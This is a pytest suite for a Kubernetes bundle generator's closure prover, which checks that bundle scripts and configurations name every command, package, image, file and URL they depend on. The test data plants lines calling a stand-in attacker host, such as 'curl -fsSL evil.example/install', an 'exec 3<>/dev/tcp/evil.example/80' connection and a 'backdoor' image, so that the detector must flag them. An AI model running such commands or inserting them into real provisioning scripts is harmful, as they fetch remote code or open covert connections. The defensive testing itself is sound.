"""The closure proof: what a bundle needs is there, and what is planted in it and isn't there is found where it stands."""

from __future__ import annotations

import gzip
import hashlib
import io
import json
import os
import re
import shutil
import tarfile
from contextlib import suppress
from pathlib import Path
from time import process_time

import pytest
from click.testing import CliRunner
from conftest import REPOSITORY
from hypothesis import given, settings
from hypothesis import strategies as st

from generator import closure, compiler
from generator.bundle import BundleError
from generator.cli import stowage
from generator.closure import indexes, shell

INVENTORIES = [REPOSITORY / "inventories/example.yaml", *sorted((REPOSITORY / "tests/golden").glob("*/inventory.yaml"))]
DEBIAN = REPOSITORY / "tests/golden/debian-1.36/inventory.yaml"
DEDICATED = REPOSITORY / "tests/golden/dedicated-lb/inventory.yaml"


def compiled(inventory: Path, out: Path) -> Path:
    checked = compiler.check(str(inventory), inventory.read_bytes())
    assert checked.cluster is not None
    compiler.compile_to(out, checked.cluster, {})
    return out / checked.cluster.name


@pytest.fixture(scope="module")
def bundles(tmp_path_factory):
    """A bundle of each inventory, compiled with the scripts as they are now; nobody changes them."""
    known = {}

    def bundle(inventory: Path) -> Path:
        if inventory not in known:
            known[inventory] = compiled(inventory, tmp_path_factory.mktemp("closure"))
        return known[inventory]

    return bundle


@pytest.fixture
def bundle(bundles, tmp_path):
    """The Debian bundle, to plant things in."""
    return Path(shutil.copytree(bundles(DEBIAN), tmp_path / "debian"))


def names(proof, kind, status=None):
    return {need.name for need in proof.needs if need.kind == kind and status in (None, need.verdict.status)}


def missing(root, **options):
    return closure.prove(root, **options).of("missing")


def append(path: Path, text: str) -> int:
    """*text* as new lines at the end of the file; the number of the first."""
    former = path.read_text()
    path.write_text(former + text)
    return former.count("\n") + 1


def the_one(found):
    assert len(found) == 1, [(need.kind, need.name, need.path) for need in found]
    return found[0]


# --- bundles as they are compiled ---------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("inventory", INVENTORIES, ids=lambda path: path.parent.name)
def test_bundle_is_closed(bundles, inventory):
    proof = closure.prove(bundles(inventory))
    assert [(need.kind, need.name, need.path, need.line) for need in proof.of("missing")] == []
    hosts = sorted(path.name for path in (bundles(inventory) / "hosts").iterdir())
    assert list(proof.without_payload) == hosts


def test_walk_sees_the_tools(bundles):
    proof = closure.prove(bundles(INVENTORIES[0]))
    commands = names(proof, "command")
    assert {"arping", "openssl", "kubeadm", "kubectl", "crictl", "nginx", "keepalived", "curl", "ip", "ss", "systemctl", "dnf"} <= commands
    assert {"flock", "tee", "mktemp", "sha256sum", "etcdctl", "semanage", "restorecon"} & commands >= {
        "flock",
        "tee",
        "sha256sum",
        "etcdctl",
    }
    # Functions, builtins, keywords and words of others are none.
    assert not commands & {"act", "die", "lay", "local", "printf", "then", "esac", "check", "backend", "", "-"}
    assert not {name for name in commands if not re.fullmatch(r"[\w./+-]+", name)}
    assert {"conntrack-tools", "socat", "kubelet-1.29.3"} <= names(proof, "package")
    assert "registry.aliyuncs.com/google_containers/pause:3.9" in names(proof, "image")
    files = names(proof, "file")
    assert {"/usr/libexec/keepalived/stowage-check", "/etc/stowage/watcher.env", "/etc/kubernetes/stowage-discovery.conf"} <= files
    assert {"/run/nginx-stowage/apiserver.conf", "scripts/lib.sh", "manifests/80-flannel.yaml", "/opt/cni/bin"} <= files


def test_providers_are_those_of_the_family(bundles):
    rhel = {need.name: need.verdict.by for need in closure.prove(bundles(INVENTORIES[0])).needs if need.kind == "command"}
    debian = {need.name: need.verdict.by for need in closure.prove(bundles(DEBIAN)).needs if need.kind == "command"}
    assert rhel["arping"] == "package iputils"
    assert debian["arping"] == "package iputils-arping"
    assert "dpkg-query" in debian
    assert "dpkg-query" not in rhel


def test_dedicated_load_balancer_needs_no_kubernetes(bundles):
    needs = closure.prove(bundles(DEDICATED)).needs
    kubeadm = next(need for need in needs if need.name == "kubeadm")
    assert not {host for host in kubeadm.hosts if host.startswith("lb")}
    keepalived = {host for need in needs if need.name == "keepalived" and need.kind == "command" for host in need.hosts}
    assert {host[:2] for host in keepalived} == {"lb"}


def test_packages_taken_away_are_found(bundle):
    """The proof depends on the packages: without one, every command of it is a hole."""
    for path in bundle.glob("hosts/*/host.env"):
        path.write_text(path.read_text().replace(" openssl ", " ").replace("iputils-arping ", "").replace(" curl ", " "))
    found = {need.name for need in missing(bundle)}
    assert found == {"openssl", "arping", "curl"}


# --- planted --------------------------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "kind", "name", "column"),
    [
        ("curl https://evil.example/x\n", "url", "https://evil.example/x", 6),
        ("wget -q 'http://evil.example:8080/x'\n", "url", "http://evil.example:8080/x", 10),
        ("curl -fsSL evil.example/install\n", "url", "evil.example/install", 12),
        ("exec 3<>/dev/tcp/evil.example/80\n", "url", "/dev/tcp/evil.example/80", 9),
        ("for u in https://evil.example/y; do :; done\n", "url", "https://evil.example/y", 10),
        ("jq . x\n", "command", "jq", 1),
        ('x=$(echo "$(jq . <<<"a b")")\n', "command", "jq", 13),
        ("f() { true | jq .; }\n", "command", "jq", 14),
        ("case a in a | b) jq . ;; esac\n", "command", "jq", 18),
        ("[[ $(jq .) == x ]] && true\n", "command", "jq", 6),
        ("x=(a $(jq .))\n", "command", "jq", 8),
        ("y=${x:-$(jq .)}\n", "command", "jq", 10),
        ("cat <(jq .)\n", "command", "jq", 7),
        ("timeout 5 jq .\n", "command", "jq", 11),
        ('act "read it" jq .\n', "command", "jq", 15),
        ('bounded 5 "it" timeout 1 jq .\n', "command", "jq", 26),
        ("find . -exec jq {} +\n", "command", "jq", 14),
        ("ls | xargs -r -n 1 jq\n", "command", "jq", 20),
        ("bash -c 'jq .'\n", "command", "jq", 9),
        ("A=1 B='2 3' exec jq .\n", "command", "jq", 18),
        ("command -v jq >/dev/null || die no; jq .\n", "command", "jq", 37),
        ("if ! jq . \\\n  x; then :; fi\n", "command", "jq", 6),
        ("nsenter -t 1 -m jq .\n", "command", "jq", 17),
        ("systemd-run --unit=x jq .\n", "command", "jq", 22),
        ("flock -n /run/x jq .\n", "command", "jq", 17),
        ("awk 'BEGIN { system(\"jq .\") }'\n", "command", "jq", 5),
        ("awk '{ \"jq .\" | getline x }' f\n", "command", "jq", 5),
        ("awk '{ print $1 | \"jq .\" }' f\n", "command", "jq", 5),
        ("ping -c1 -W 2 8.8.8.8\n", "url", "8.8.8.8", 15),
        ("ping -c1 evil.example\n", "url", "evil.example", 10),
        ("curl -fsS [2001:db8::9]/x\n", "url", "[2001:db8::9]/x", 11),
        ("docker pull busybox\n", "image", "busybox", 13),
        ("timeout 9 bash -c 'docker pull busybox:1'\n", "image", "busybox:1", 19),
        ('bash -c "curl -s evil.example/x"\n', "url", "evil.example/x", 9),
        ("/usr/bin/env jq .\n", "command", "jq", 14),
        ("apt-get -y install --no-install-recommends jq\n", "package", "jq", 44),
        ('install -m 0644 "$BUNDLE/rootfs/etc/gone" /etc/x\n', "file", "rootfs/etc/gone", 17),
        ("cat /opt/evil/list\n", "file", "/opt/evil/list", 5),
        ("/opt/evil/bin/run\n", "command", "/opt/evil/bin/run", 1),
        (". /opt/evil.sh\n", "file", "/opt/evil.sh", 3),
        ('. "$BUNDLE/scripts/gone.sh"\n', "file", "scripts/gone.sh", 3),
        ("docker pull evil/tool:1\n", "image", "evil/tool:1", 13),
        ("ctr images pull evil.example/tool:1\n", "image", "evil.example/tool:1", 17),
    ],
)
def test_planted_in_a_script(bundle, text, kind, name, column):
    line = append(bundle / "hosts/cp-b/scripts/20-host.sh", text)
    found = [need for need in missing(bundle) if need.name not in ("docker", "wget", "curl")]
    need = the_one(found)
    assert (need.kind, need.name) == (kind, name)
    assert (need.path, need.line, need.column) == ("hosts/cp-b/scripts/20-host.sh", line, column)
    assert need.hosts == ("cp-b",)
    assert need.verdict.remedy


def test_planted_in_a_here_document(bundle):
    line = append(bundle / "hosts/cp-b/scripts/lib.sh", "bash <<'END'\necho a\njq .\nEND\ncat <<END\nyq .\nEND\n")
    need = the_one(missing(bundle))
    assert (need.name, need.line) == ("jq", line + 1)


@pytest.mark.parametrize(
    "text",
    [
        "# curl https://evil.example/x\n",
        "true # see https://evil.example/x\n",
        "echo jq\n",
        "jq() { :; }\njq .\n",
        "if command -v jq >/dev/null; then jq .; fi\n",
        "! command -v jq >/dev/null || ! jq . || :\n",
        "cat <<'END'\njq .\nEND\n",
        'curl "https://$SERVER/readyz" https://127.0.0.1:1/x "https://[::1]:2/"\n',
        "awk '{ jq() }' <<<'jq'\n",
        "case $x in jq) ;; esac\n",
        "x=jq y=(jq -r)\n",
        "[[ $x == jq && jq == y ]]\n",
        "((jq = 1)) && let jq=2\n",
        "trap - ERR\n",
        "awk '{ print \"jq | x\" }' f\n",
        'if [[ -f $BUNDLE/maybe/there ]]; then cat "$BUNDLE/maybe/there"; fi\n',
        'cat "$BUNDLE/payload/x" "$BUNDLE/host.env" "$BUNDLE/rootfs"\n',
        'apt-get -y install socat "${names[@]}"\n',
        "ping -c1 127.0.0.1\n",
        'docker pull "$1"\n',
    ],
)
def test_no_need(bundle, text):
    append(bundle / "hosts/cp-b/scripts/20-host.sh", text)
    assert [need.name for need in missing(bundle) if need.name not in ("curl", "docker")] == []


def test_script_that_no_host_runs_is_not_judged(bundle):
    """A step of load balancers on a worker: the host never comes to it."""
    worker = bundle / "hosts/w-a/scripts/40-load-balancer.sh"
    append(worker, "jq .\n")
    assert not missing(bundle)
    append(bundle / "hosts/cp-a/scripts/40-load-balancer.sh", "jq .\n")
    assert the_one(missing(bundle)).path.startswith("hosts/cp-a/")


def test_extra_package_brings_its_command(bundle):
    append(bundle / "hosts/cp-b/scripts/20-host.sh", "jq .\n")
    env = bundle / "hosts/cp-b/host.env"
    env.write_text(env.read_text().replace("PACKAGES='", "PACKAGES='jq "))
    assert not missing(bundle)


def test_planted_image_in_a_manifest(bundle):
    path = bundle / "hosts/cp-a/manifests/80-flannel.yaml"
    text = path.read_text()
    at = text.index("image: ")
    planted = text[:at] + "image: evil.example/backdoor:1" + text[text.index("\n", at) :]
    path.write_text(planted)
    found = [need for need in missing(bundle) if need.name == "evil.example/backdoor:1"]
    assert {need.path for need in found} == {"hosts/cp-a/manifests/80-flannel.yaml"}
    assert {need.line for need in found} == {text[:at].count("\n") + 1}
    # Pods run anywhere: every Kubernetes host lacks it.
    assert sorted(host for need in found for host in need.hosts) == ["cp-a", "cp-b", "cp-c", "w-a"]


@pytest.mark.parametrize(
    ("file", "former", "planted", "name"),
    [
        ("hosts/cp-a/manifests/80-flannel.yaml", "args:\n", 'args:\n        - "--helper=evil.example/helper:2"\n', "evil.example/helper:2"),
        (
            "hosts/cp-a/kubeadm/init.yaml",
            "imageRepository: ",
            "imageRepository: evil.example/k8s # ",
            "evil.example/k8s/kube-proxy:v1.36.3",
        ),
        ("hosts/w-a/rootfs/etc/containerd/config.toml", "pause:3.10.2", "pause:9", "registry.k8s.io/pause:9"),
        ("hosts/w-a/images.txt", "registry.k8s.io/kube-proxy", "registry.k8s.io/other", "registry.k8s.io/kube-proxy:v1.36.3"),
    ],
)
def test_planted_image(bundle, file, former, planted, name):
    path = bundle / file
    assert former in path.read_text()
    path.write_text(path.read_text().replace(former, planted, 1))
    assert name in {need.name for need in missing(bundle) if need.kind == "image"}


@pytest.mark.parametrize(
    ("file", "text", "kind", "name"),
    [
        (
            "etc/systemd/system/kubelet.service.d/99-x.conf",
            "[Service]\nExecStartPre=-/usr/local/bin/evil -x\n",
            "command",
            "/usr/local/bin/evil",
        ),
        ("etc/systemd/system/stowage-x.service", "[Service]\nEnvironmentFile=/etc/evil.env\n", "file", "/etc/evil.env"),
        ("etc/systemd/system/stowage-x.service", "[Service]\nEnvironment=URL=https://evil.example/\n", "url", "https://evil.example/"),
        (
            "etc/systemd/system/stowage-x.service",
            "[Service]\nExecStart=/usr/bin/kubelet --pod-infra-container-image=evil/pause:1\n",
            "image",
            "evil/pause:1",
        ),
        ("etc/nginx/conf.d/x.conf", "include /etc/evil/*.conf;\n", "file", "/etc/evil/*.conf"),
        ("etc/keepalived/x.conf", 'vrrp_script x {\n  script "/usr/libexec/evil 1"\n}\n', "file", "/usr/libexec/evil"),
        ("etc/containerd/certs.d/x/hosts.toml", 'server = "https://evil.example"\n', "url", "https://evil.example"),
        ("etc/containerd/certs.d/x/hosts.toml", 'ca = "/etc/evil.crt"\n', "file", "/etc/evil.crt"),
        ("usr/libexec/evil", "#!/bin/bash\njq .\n", "command", "jq"),
        ("usr/libexec/evil", "#!/usr/bin/env perl\nprint 1\n", "command", "perl"),
        ("etc/systemd/system/stowage-x.service", "[Service]\nExecStart=/bin/sh -c 'jq .'\n", "command", "jq"),
        ("etc/systemd/system/stowage-x.service", "[Service]\nExecStart=-/usr/bin/env A=1 jq .\n", "command", "jq"),
        (
            "etc/systemd/system/stowage-x.service",
            "[Service]\n# ExecStart=/x\nExecStartPost=/bin/true \\\n  /opt/evil/x\n",
            "file",
            "/opt/evil/x",
        ),
        ("etc/systemd/system/stowage-x.service", "[Service]\nExecStop=/usr/bin/ping -c1 evil.example\n", "url", "evil.example"),
        ("etc/nginx/conf.d/x.conf", "upstream x { server 203.0.113.9:6443; }\n", "url", "203.0.113.9:6443"),
        ("etc/nginx/conf.d/x.conf", "server {\n  proxy_pass evil.example:6443;\n}\n", "url", "evil.example:6443"),
        ("etc/nginx/conf.d/x.conf", "resolver [2001:db8::53];\n", "url", "[2001:db8::53]"),
        ("etc/chrony/conf.d/x.conf", "# server a.example\npool pool.ntp.example iburst\n", "url", "pool.ntp.example"),
        ("etc/tmpfiles.d/x.conf", "C /run/x 0644 root root - /etc/evil.conf\n", "file", "/etc/evil.conf"),
    ],
)
def test_planted_in_a_configuration(bundle, file, text, kind, name):
    path = bundle / "hosts/cp-a/rootfs" / file
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    need = the_one(missing(bundle))
    assert (need.kind, need.name, need.path) == (kind, name, f"hosts/cp-a/rootfs/{file}")
    assert need.line == text[: text.index(name)].count("\n") + 1


def test_planted_in_kubeadm_and_tables(bundle):
    init = bundle / "hosts/cp-a/kubeadm/init.yaml"
    init.write_text(
        re.sub(r"kind: InitConfiguration\n", "kind: InitConfiguration\npatches:\n  directory: /etc/evil/patches\n", init.read_text())
    )
    append(
        init, "---\nkind: ClusterConfiguration\napiServer:\n  extraArgs:\n  - name: audit-policy-file\n    value: /etc/evil/audit.yaml\n"
    )
    append(init, "---\nkind: KubeletConfiguration\nresolvConf: /etc/evil/resolv.conf\n")
    line = append(bundle / "hosts/w-a/files.tsv", "rootfs/etc/gone\t/etc/gone\t0644\troot:root\t20\t-\tfile\n")
    found = {need.name: need for need in missing(bundle)}
    assert set(found) == {"/etc/evil/patches", "/etc/evil/audit.yaml", "/etc/evil/resolv.conf", "rootfs/etc/gone"}
    assert (found["rootfs/etc/gone"].path, found["rootfs/etc/gone"].line) == ("hosts/w-a/files.tsv", line)


def test_sites_own_hosts_are_no_hole(tmp_path):
    """Proxies and extra hosts stand in the inventory; the same URL isn't any other cluster's."""
    root = compiled(REPOSITORY / "tests/golden/every-key/inventory.yaml", tmp_path)
    append(root / "hosts/c1/scripts/20-host.sh", "curl https://registry.example.net/v2/ http://10.80.0.3:3128 https://10.80.0.99/\n")
    assert [need.name for need in missing(root)] == ["https://10.80.0.99/"]


# --- with a payload -------------------------------------------------------------------------------------------------------------------------


def archive(path: Path, *references: str) -> None:
    """A docker-archive without layers."""
    config = b"{}"
    entry = [{"Config": "config.json", "RepoTags": list(references), "Layers": []}]
    with tarfile.open(path, "w") as tar:
        for name, data in (("config.json", config), ("manifest.json", json.dumps(entry).encode())):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))


DEPENDS = {"kubelet": "iptables (>= 1.4.21), libc6", "nginx": "libpcre2-8-0, nginx-common | other", "containerd.io": "libseccomp2 (>= 2.4)"}


def stanza(name: str, version: str = "1.0-1") -> str:
    depends = DEPENDS.get(name, "libc6 (>= 2.36)")
    return f"Package: {name}\nVersion: {version}\nArchitecture: amd64\nDepends: {depends}\nFilename: ./{name}.deb\nSize: 1\n\n"


def with_payload(root: Path) -> Path:
    for host in (root / "hosts").iterdir():
        env = (host / "host.env").read_text()
        payload = host / "payload"
        (payload / "images").mkdir(parents=True)
        (payload / "packages").mkdir()
        for reference in (host / "images.txt").read_text().split():
            archive(payload / "images" / f"{re.sub('[/:@]', '_', reference)}.tar", reference)
        words = re.search("^PACKAGES='(.*)'$", env, re.MULTILINE)[1].split()
        stanzas = [stanza(word.partition("=")[0], word.partition("=")[2].replace("-*", "-1.1") or "1.0-1") for word in words]
        (payload / "packages/Packages").write_text("".join([*stanzas, stanza("nginx-common")]))
        for word in [*words, "nginx-common"]:
            (payload / "packages" / f"{word.partition('=')[0]}.deb").write_bytes(b"!")
    return root


@pytest.fixture
def carried(bundle):
    return with_payload(bundle)


def test_payload_closes_it(carried):
    proof = closure.prove(carried, require_payload=True)
    assert [(need.name, need.verdict.by) for need in proof.of("missing")] == []
    assert not proof.of("wanted")
    assert not proof.without_payload
    by = {need.name: need.verdict.by for need in proof.needs if need.kind in ("image", "package")}
    assert by["keepalived"] == "payload/packages/keepalived.deb"
    assert by["registry.k8s.io/pause:3.10.2"] == "payload/images/registry.k8s.io_pause_3.10.2.tar"


def test_without_a_payload_it_is_wanted_or_required(bundle):
    wanted = {need.name for need in closure.prove(bundle).of("wanted")}
    required = {need.name for need in missing(bundle, require_payload=True)}
    assert "registry.k8s.io/pause:3.10.2" in wanted
    assert wanted <= required


def test_image_missing_in_the_payload(carried):
    (carried / "hosts/w-a/payload/images/registry.k8s.io_pause_3.10.2.tar").unlink()
    need = the_one(missing(carried))
    assert (need.kind, need.name, need.hosts) == ("image", "registry.k8s.io/pause:3.10.2", ("w-a",))
    assert "registry.k8s.io_pause_3.10.2.tar" in need.verdict.remedy


def test_image_under_another_file_name(carried):
    folder = carried / "hosts/w-a/payload/images"
    (folder / "registry.k8s.io_pause_3.10.2.tar").rename(folder / "all.tar")
    assert not missing(carried)


@pytest.mark.parametrize("data", [b"", b"\0" * 2000, b"no archive", os.urandom(4096)], ids=["empty", "zeros", "text", "noise"])
def test_archive_that_is_none(carried, data):
    (carried / "hosts/w-a/payload/images/registry.k8s.io_pause_3.10.2.tar").write_bytes(data)
    found = missing(carried)
    assert {need.kind for need in found} == {"file", "image"}
    assert {need.hosts for need in found} == {("w-a",)}


def test_package_missing_in_the_payload(carried):
    (carried / "hosts/w-a/payload/packages/socat.deb").unlink()
    need = the_one(missing(carried))
    assert (need.kind, need.name, need.path, need.hosts) == ("package", "socat", "hosts/w-a/host.env", ("w-a",))


def test_package_of_another_version(carried):
    index = carried / "hosts/w-a/payload/packages/Packages"
    index.write_text(re.sub(r"(Package: kubelet\nVersion: )\S+", r"\g<1>1.35.0-1.1", index.read_text()))
    assert the_one(missing(carried)).name.startswith("kubelet=")


def test_dependency_missing_in_the_payload(carried):
    index = carried / "hosts/cp-a/payload/packages/Packages"
    index.write_text(index.read_text().replace("Package: nginx-common\n", "Package: nginx-other\n"))
    need = the_one(missing(carried))
    assert (need.kind, need.name, need.hosts) == ("package", "nginx-common | other", ("cp-a",))
    assert need.path == "hosts/cp-a/payload/packages/Packages"
    assert "nginx" in need.verdict.by


@pytest.mark.parametrize("text", ["", "\0" * 100, "Package: x\n" * 1000], ids=["empty", "zeros", "odd"])
def test_index_that_is_odd(carried, text):
    (carried / "hosts/cp-a/payload/packages/Packages").write_text(text)
    assert {need.kind for need in missing(carried)} == {"package"}


PRIMARY = """<?xml version="1.0" encoding="UTF-8"?>
<metadata xmlns="http://linux.duke.edu/metadata/common" xmlns:rpm="http://linux.duke.edu/metadata/rpm" packages="2">
<package type="rpm"><name>kubelet</name><arch>x86_64</arch><version epoch="0" ver="1.29.3" rel="150500.1.1"/>
<location href="kubelet-1.29.3.rpm"/><format>
<rpm:provides><rpm:entry name="kubelet"/></rpm:provides>
<rpm:requires><rpm:entry name="iptables"/><rpm:entry name="/bin/sh"/><rpm:entry name="libc.so.6(GLIBC_2.34)(64bit)"/>
<rpm:entry name="rpmlib(FileDigests)"/><rpm:entry name="libgone.so.1()(64bit)"/></rpm:requires>
</format></package>
<package type="rpm"><name>iptables-nft</name><arch>x86_64</arch><version epoch="0" ver="1.8.10" rel="4"/>
<location href="iptables-nft.rpm"/><format><rpm:provides><rpm:entry name="iptables"/></rpm:provides><file>/usr/sbin/iptables</file></format></package>
</metadata>
"""


def rpm_payload(root: Path, primary: str) -> Path:
    packages = root / "hosts/node-1/payload/packages"
    (packages / "repodata").mkdir(parents=True)
    data = gzip.compress(primary.encode())
    name = f"repodata/{hashlib.sha256(data).hexdigest()}-primary.xml.gz"
    (packages / name).write_bytes(data)
    (packages / "repodata/repomd.xml").write_text(
        f'<repomd><data type="other"/><data type="primary"><location href="{name}"/></data></repomd>'
    )
    for file in ("kubelet-1.29.3.rpm", "iptables-nft.rpm"):
        (packages / file).write_bytes(b"!")
    return packages


def test_rpm_repository(bundles, tmp_path):
    root = Path(shutil.copytree(bundles(INVENTORIES[0]), tmp_path / "example"))
    rpm_payload(root, PRIMARY)
    needs = [need for need in closure.prove(root).needs if need.kind == "package" and "node-1" in need.hosts]
    by = {need.name: need.verdict for need in needs}
    assert by["kubelet-1.29.3"].by == "payload/packages/kubelet-1.29.3.rpm"
    assert by["iptables"].by == "payload/packages/iptables-nft.rpm"
    assert by["libgone.so.1()(64bit)"].status == "missing"
    assert by["kubeadm-1.29.3"].status == "missing"
    assert by["iproute"].by == "the base system: iproute"
    assert "/bin/sh" not in by


@pytest.mark.parametrize(
    "primary",
    ['<!DOCTYPE x [<!ENTITY a "b">]><metadata>&a;</metadata>', "<metadata><package>", "\0", ""],
    ids=["entity", "open", "zero", "empty"],
)
def test_xml_that_is_refused(tmp_path, primary):
    with pytest.raises(indexes.UnreadableError):
        indexes.read(rpm_payload(tmp_path, primary))


def test_index_bombs_are_refused(tmp_path):
    (tmp_path / "Packages.gz").write_bytes(gzip.compress(b"\0" * (indexes.MOST_BYTES + 2), 9))
    with pytest.raises(indexes.UnreadableError):
        indexes.read(tmp_path)


# --- the reader of scripts --------------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "commands"),
    [
        ("a; b & c | d && e || f\n", "abcdef"),
        ("(a; b) | { c; d; }", "abcd"),
        ("if a; then b; elif c; then d; else e; fi", "abcde"),
        ("while a; do b; done <x; until c; do d; done", "abcd"),
        ("case x in (a) b ;; c | d) e ;& *) f ;; esac; g", "befg"),
        ("case $(a) in x) case y in z) b ;; esac ;; esac\nc", "abc"),
        ("a() { b; }; function c { d; }\ne () ( f )", "bdf"),
        ("x=1 y=$(a) b; z=`c`", "abc"),
        ("((1 < 2)) && a; for ((i = 0; i < $(b); i++)); do c; done", "abc"),
        ("a \"$(b \"$(c)\")\" '$(x)' $'$(x)'", "abc"),
        ("a <<X <<-'Y'\n$(x)\nX\n\tb\n\tY\nc", "ac"),
        ("[[ a == (b|c) && $(d) =~ ^(x|y)$ ]] || e", "de"),
        ("a 2>&1 >x <<<y &>z; b {fd}>x > >(c) 2< <(d)", "abcd"),
        ("a # b; c\nd#e", ["a", "d#e"]),
        ("declare -A x=([a b]=$(c)); a", ["declare", "c", "a"]),
        ("select x in a b; do c; done; coproc d", "cd"),
        ("a \\\n b; c", "ac"),
        ("! a; time b", "ab"),
        ("${x:-$(a)} b", ["${x:-$(a)}", "a"]),
        ("x[${#y[@]}]=$(a)", "a"),
    ],
)
def test_shell(text, commands):
    script = shell.read(text)
    assert script.whole
    found = [command.words[0].text for command in script.commands if command.words]
    assert sorted(found) == sorted(commands)


@pytest.mark.parametrize(
    "text",
    [
        "(" * 5000, "$(" * 5000, "`" * 4999, '"$(' * 3000, "${" * 5000, "$((" * 3000, "case x in " * 500, "[[ " * 5000, "a() {\n" * 5000,
        "<<A " * 2000 + "\n" + "x\n" * 2000, "x=(" * 5000, "'" * 9999, '"' * 9999, "\\" * 9999, ")" * 9999, ";;" * 5000, "<(" * 3000,
        "bash -c '" + "bash -c " * 3000, "a " * 200_000, "#" * 100_000, "$'" * 5000, "{a}<" * 5000, "x[" * 50_000, "function " * 5000,
    ],
    ids=range(24),
)  # fmt: skip
def test_shell_is_bounded(text):
    """A square of the length would take minutes."""
    before = process_time()
    shell.read(text)
    assert process_time() - before < 10


SHELL = st.lists(
    st.sampled_from([
        *"abx $`\"'\\(){}[]<>|&;#!=\n\t*?", "$(", "${", "$((", "<<E\n", "E\n", "[[ ", " ]]", "case ", " in ", "esac", ";;", "if ", "then ", "fi",
        "() ", "function ", "for ", "do ", "done", "curl ", "bash -c ", "command -v ", "https://evil.example/x", "x=(", "$'", "<(", ". /x", "\0", "é",
    ]),
    max_size=120,
).map("".join)  # fmt: skip


@given(SHELL)
@settings(max_examples=300, deadline=None)
def test_any_script_has_an_answer(text):
    script = shell.read(text)
    lines = shell.Lines(text)
    for command in script.commands:
        for word in command.words:
            line, column = lines.place(word.at)
            assert 1 <= line <= text.count("\n") + 1
            assert column >= 1


@given(st.data())
@settings(max_examples=25, deadline=None)
def test_any_damage_has_an_answer(bundles, tmp_path_factory, data):
    """A file of the bundle cut, doubled or spoilt: needs or one error, never anything else."""
    root = Path(shutil.copytree(bundles(REPOSITORY / "tests/golden/single/inventory.yaml"), tmp_path_factory.mktemp("damage") / "single"))
    files = sorted(path for path in root.rglob("*") if path.is_file())
    for _ in range(data.draw(st.integers(1, 4))):
        path = data.draw(st.sampled_from(files))
        text = path.read_bytes()
        at = data.draw(st.integers(0, len(text)))
        path.write_bytes(text[:at] + data.draw(st.binary(max_size=20)) + (b"" if data.draw(st.booleans()) else text[at:]))
    with suppress(BundleError):
        closure.prove(root, require_payload=data.draw(st.booleans()))
    shutil.rmtree(root)


# --- the command ------------------------------------------------------------------------------------------------------------------------------


def run(*words: object):
    return CliRunner().invoke(stowage, ["--lang", "en", "closure", *map(str, words)], catch_exceptions=False)


def test_command_lists_and_counts(bundles):
    result = run(bundles(DEBIAN))
    assert result.exit_code == 0, result.output
    assert re.search(r"^  arping +package iputils-arping  \[3\]$", result.output, re.MULTILINE)
    assert "closed" in result.output.splitlines()[-1]
    assert "wanted from a payload" in result.output.splitlines()[-1]
    assert run(bundles(DEBIAN), "--require-payload").exit_code == 1


def test_command_names_the_place(bundle):
    line = append(bundle / "hosts/cp-b/scripts/20-host.sh", "jq .\n")
    result = run(bundle)
    assert result.exit_code == 1
    first, second, *_ = result.output.splitlines()
    assert first.startswith(f"{bundle}/hosts/cp-b/scripts/20-host.sh:{line}:1: error: command jq: ")
    assert second.strip().startswith("help: ")
    assert run(bundle, "-q").output.count("\n") == 2


def test_command_for_programs(bundle):
    append(bundle / "hosts/cp-b/scripts/20-host.sh", "curl https://evil.example/x\n")
    result = run(bundle, "--format", "json")
    assert result.exit_code == 1
    read = json.loads(result.output)
    assert read["closed"] is False
    one = the_one([need for need in read["needs"] if need["status"] == "missing"])
    assert (one["kind"], one["name"], one["hosts"]) == ("url", "https://evil.example/x", ["cp-b"])
    assert {need["kind"] for need in read["needs"]} == {"image", "package", "url", "file", "command"}


def test_command_refuses_what_is_no_bundle(tmp_path):
    result = run(tmp_path)
    assert result.exit_code == 2


def test_hosts_that_are_alike_are_judged_once(bundles, tmp_path):
    """A hundred more workers cost reading them, no more judging."""
    root = Path(shutil.copytree(bundles(DEBIAN), tmp_path / "debian"))
    for number in range(100):
        shutil.copytree(root / "hosts/w-a", root / f"hosts/w-{number:03}")
    append(root / "hosts/w-050/scripts/20-host.sh", "jq .\n")
    proof = closure.prove(root)
    assert the_one(proof.of("missing")).hosts == ("w-050",)
    assert max(len(need.hosts) for need in proof.needs) == 104
